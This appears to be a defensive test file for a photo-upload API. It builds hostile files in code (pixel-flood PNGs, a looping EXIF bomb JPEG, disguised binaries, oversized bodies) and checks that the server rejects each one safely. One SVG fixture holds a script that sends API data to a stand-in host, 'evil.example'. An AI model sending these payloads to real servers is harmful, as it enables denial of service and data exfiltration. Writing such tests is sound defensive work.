// Hostile uploads against the real server process, over the wire: each is refused with a 4xx and the
// JSON error body before any decoder sees it (nothing reaches the estimator, nothing is stored), the
// process's peak memory stays bounded, and the server keeps serving. The files are made here, byte by
// byte; none is committed.
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi } from './support/api-process.ts';
import { sendRaw } from './support/raw-request.ts';
import type { ApiProcess } from './support/api-process.ts';
import { sharedDatabase } from './support/databases.ts';
import type { SharedDatabase } from './support/databases.ts';

const MB = 1024 * 1024;
/** A real phone photo (api/test/fixtures/photos/PROVENANCE.md). */
const CUP = new Uint8Array(readFileSync(new URL('../../test/fixtures/photos/cup-1.jpg', import.meta.url)));
/** After warming up with uploads of the largest accepted size, the barrage (≈ 40 requests, some near
 *  10 MB) may raise the process's peak memory by at most this much. Well above garbage-collector slack
 *  for form parsing, far below what decoding any of these files would take (30000×30000 RGBA is
 *  3.6 GB; merely loading the on-device estimator's models adds ≈ 300 MB). */
const PEAK_GROWTH_LIMIT_BYTES = 128 * MB;
const LARGEST_ACCEPTED_BYTES = 10 * MB - 64 * 1024;

const u32be = (n: number) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
const u16be = (n: number) => [(n >>> 8) & 255, n & 255];

function crc32(bytes: Uint8Array): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

function pngChunk(type: string, data: Uint8Array): number[] {
  const body = new Uint8Array([...Buffer.from(type, 'latin1'), ...data]);
  return [...u32be(data.length), ...body, ...u32be(crc32(body))];
}

/** A valid, tiny PNG file whose header declares width×height: a decoder would allocate w×h×4 bytes. */
function pixelFloodPng(width: number, height: number): Uint8Array {
  const ihdr = new Uint8Array([...u32be(width), ...u32be(height), 8, 6, 0, 0, 0]); // 8-bit RGBA
  const idat = deflateSync(new Uint8Array(1024)); // a few rows of zeros; the rest is "missing"
  return new Uint8Array([
    0x89,
    0x50,
    0x4e,
    0x47,
    0x0d,
    0x0a,
    0x1a,
    0x0a,
    ...pngChunk('IHDR', ihdr),
    ...pngChunk('IDAT', idat),
    ...pngChunk('IEND', new Uint8Array()),
  ]);
}

/** A baseline JPEG frame header (SOF0) declaring width×height. */
const sof0 = (width: number, height: number) => [
  0xff,
  0xc0,
  ...u16be(17),
  8,
  ...u16be(height),
  ...u16be(width),
  3,
  1,
  0x22,
  0,
  2,
  0x11,
  1,
  3,
  0x11,
  1,
];

/** A JPEG that is almost all EXIF: ~9 MB of APP1 segments whose IFDs claim 65,535 entries and point
 *  at themselves (a parser that follows them loops or allocates without end), then a frame header
 *  declaring 65,535 × 65,535 pixels. */
function exifBomb(): Uint8Array {
  const segments: number[] = [0xff, 0xd8];
  const tiff = [0x4d, 0x4d, 0x00, 0x2a, ...u32be(8), ...u16be(0xffff)];
  const app1Body = new Uint8Array(65_533);
  app1Body.set([...Buffer.from('Exif\0\0', 'latin1'), ...tiff]);
  for (let i = 6 + tiff.length; i + 12 <= app1Body.length; i += 12) {
    // Each entry: tag 0x8769 (Exif IFD pointer), type LONG, count 1, offset 8 (back to IFD0).
    app1Body.set([0x87, 0x69, 0x00, 0x04, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x08], i);
  }
  const segment = [0xff, 0xe1, ...u16be(app1Body.length + 2), ...app1Body];
  const out = new Uint8Array(2 + 140 * segment.length + 19 + 2);
  out.set(segments, 0);
  let at = 2;
  for (let i = 0; i < 140; i++) {
    out.set(segment, at);
    at += segment.length;
  }
  out.set(sof0(65_535, 65_535), at);
  return out;
}

/** Only the start of a real photo: header and part of the scan, no end-of-image marker. */
const truncatedJpeg = () => CUP.subarray(0, Math.floor(CUP.length * 0.6));

const SVG_WITH_SCRIPT =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/analyses").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script><rect width="10" height="10"/></svg>';

interface Upload {
  name: string;
  type: string;
  bytes: Uint8Array;
}

const CASES: Array<[label: string, upload: () => Upload, status: number, message: RegExp]> = [
  ['an empty file', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array() }), 400, /empty/],
  [
    'a PDF named photo.jpg',
    () => ({
      name: 'photo.jpg',
      type: 'image/jpeg',
      bytes: new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n')),
    }),
    415,
    /not a JPEG, PNG, WebP or HEIC/,
  ],
  [
    'a Linux program named photo.png',
    () => ({
      name: 'photo.png',
      type: 'image/png',
      bytes: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Uint8Array(56)]),
    }),
    415,
    /not a JPEG, PNG, WebP or HEIC/,
  ],
  [
    'an SVG with a script',
    () => ({ name: 'image.svg', type: 'image/svg+xml', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }),
    415,
    /not a JPEG, PNG, WebP or HEIC/,
  ],
  [
    'an SVG with a script named photo.jpg',
    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }),
    415,
    /not a JPEG, PNG, WebP or HEIC/,
  ],
  [
    'a truncated JPEG',
    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: truncatedJpeg() }),
    400,
    /damaged|cut off|incomplete/,
  ],
  [
    'a JPEG header cut before its frame',
    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: CUP.subarray(0, 20) }),
    400,
    /damaged/,
  ],
  [
    'a PNG declaring 30000×30000 pixels',
    () => ({ name: 'photo.png', type: 'image/png', bytes: pixelFloodPng(30_000, 30_000) }),
    413,
    /30000×30000 pixels/,
  ],
  [
    'a JPEG declaring 65535×65535 pixels',
    () => ({
      name: 'photo.jpg',
      type: 'image/jpeg',
      bytes: new Uint8Array([0xff, 0xd8, ...sof0(65_535, 65_535), 0xff, 0xd9]),
    }),
    413,
    /65535×65535 pixels/,
  ],
  ['an EXIF bomb', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: exifBomb() }), 413, /65535×65535 pixels/],
  [
    '30 MB of JPEG-looking bytes',
    () => ({
      name: 'photo.jpg',
      type: 'image/jpeg',
      bytes: (() => {
        const b = new Uint8Array(30 * MB);
        b.set([0xff, 0xd8, 0xff]);
        return b;
      })(),
    }),
    413,
    /too large|10 MB/,
  ],
];

function form(u: Upload): FormData {
  const f = new FormData();
  f.set('image', new Blob([u.bytes as Uint8Array<ArrayBuffer>], { type: u.type }), u.name);
  return f;
}

/** The form as the bytes and content type a browser sends. */
async function multipart(f: FormData): Promise<{ bytes: Uint8Array; type: string }> {
  const req = new Request('http://localhost/', { method: 'POST', body: f });
  return { bytes: new Uint8Array(await req.arrayBuffer()), type: req.headers.get('content-type')! };
}

/** Bytes in 256 KB pieces, as a socket takes them. */
function* pieces(bytes: Uint8Array): Generator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += 256 * 1024) yield bytes.subarray(at, at + 256 * 1024);
}

/** Bytes the process has read through system calls (Linux rchar): sockets and files alike. */
function bytesRead(pid: number): number {
  const line = readFileSync(`/proc/${pid}/io`, 'utf8')
    .split('\n')
    .find((l) => l.startsWith('rchar:'));
  return Number(line?.match(/(\d+)/)?.[1] ?? NaN);
}

/** Peak resident set size of a process (Linux VmHWM), in bytes. */
function peakRss(pid: number): number {
  const line = readFileSync(`/proc/${pid}/status`, 'utf8')
    .split('\n')
    .find((l) => l.startsWith('VmHWM:'));
  return Number(line?.match(/(\d+)/)?.[1] ?? NaN) * 1024;
}

describe('hostile uploads against the server process', () => {
  let shared: SharedDatabase;
  let api: ApiProcess;
  let baseline: number;
  beforeAll(async () => {
    shared = await sharedDatabase('sqlite');
    api = await startApi(shared.env);
    // Warm up with bodies of the largest size the routes read (refused as damaged after reading), so the
    // baseline holds what an honest 10 MB upload costs: parsing the form keeps a few copies of it.
    const big = new Uint8Array(LARGEST_ACCEPTED_BYTES);
    big.set([0xff, 0xd8, 0xff]);
    for (const path of ['/api/analyze', '/api/identify-product', '/api/analyze']) {
      const res = await fetch(`${api.url}${path}`, {
        method: 'POST',
        body: form({ name: 'x.jpg', type: 'image/jpeg', bytes: big }),
      });
      expect(res.status).toBe(400);
    }
    baseline = peakRss(api.pid);
  }, 60_000);
  afterAll(async () => {
    await api?.stop();
    await shared?.remove();
  });

  describe.each(['/api/analyze', '/api/identify-product'])('%s', (path) => {
    it.each(CASES)('refuses %s before decoding it', async (_label, upload, status, message) => {
      // Over a plain socket that reads while it writes: a body over the limit is refused before it is
      // read and the server may hang up before the rest is sent, but the refusal itself must arrive
      // (a reset or a crash with no answer fails here).
      const { bytes, type } = await multipart(form(upload()));
      const res = await sendRaw(`${api.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': type, 'content-length': String(bytes.length) },
        body: pieces(bytes),
      });
      expect(res.status, res.body).toBe(status);
      expect((JSON.parse(res.body) as { error: string }).error).toMatch(message);
    });

    it('refuses 30 MB sent without a length (chunked), without reading it all', async () => {
      const readBefore = bytesRead(api.pid);
      const boundary = 'hostileboundary';
      const head = new TextEncoder().encode(
        `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="photo.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff`,
      );
      function* body() {
        yield head;
        const chunk = new Uint8Array(256 * 1024);
        for (let sent = 0; sent < 30 * MB; sent += chunk.length) yield chunk;
      }
      const res = await sendRaw(`${api.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
        body: body(),
      });
      expect(res.status, res.body).toBe(413);
      expect((JSON.parse(res.body) as { error: string }).error).toMatch(/too large/);
      // What the server read, not what the client handed to its socket: buffers on both sides of a
      // loopback connection hold megabytes, so the sender's count says little about the server.
      await new Promise((r) => setTimeout(r, 1_000)); // a draining server would still be reading
      expect(bytesRead(api.pid) - readBefore).toBeLessThan(20 * MB);
    });
  });

  it('stored nothing, kept its peak memory bounded, and still serves', async () => {
    const db = await shared.open();
    try {
      expect(await db.db.selectFrom('analyses').select('id').execute()).toEqual([]);
    } finally {
      await db.close();
    }
    expect(peakRss(api.pid) - baseline).toBeLessThan(PEAK_GROWTH_LIMIT_BYTES);
    expect((await fetch(`${api.url}/api/health`)).status).toBe(200);
  });
});
